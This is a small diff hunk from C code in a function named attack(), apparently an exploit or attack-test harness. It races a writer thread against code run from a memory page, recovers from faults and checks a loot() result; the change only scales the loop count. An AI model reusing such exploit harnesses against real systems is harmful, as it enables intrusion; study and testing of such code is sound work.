@@ -22,7 +22,7 @@ static int attack(void)
 	memcpy(page, OPEN, sizeof OPEN);
 	expect_faults();
 	pthread_create(&thread, 0, writer, 0);
-	for (int i = 0; i < 3000; i++) {
+	for (int i = 0; i < part(3000); i++) {
 		if (!sigsetjmp(landing, 1)) {
 			((code *)page)();
 			if (loot() == 0)
